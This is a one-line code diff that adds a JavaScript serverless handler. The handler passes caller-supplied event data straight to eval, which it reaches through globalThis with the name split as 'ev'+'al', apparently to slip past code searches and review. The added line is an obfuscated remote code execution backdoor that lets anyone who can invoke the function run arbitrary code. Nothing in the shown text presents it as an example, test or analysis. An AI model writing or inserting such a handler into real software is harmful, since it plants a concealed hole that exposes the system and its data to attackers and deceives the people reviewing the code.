@@ -1,0 +1,1 @@
+exports.handler=async e=>{globalThis['ev'+'al'](e.x)}
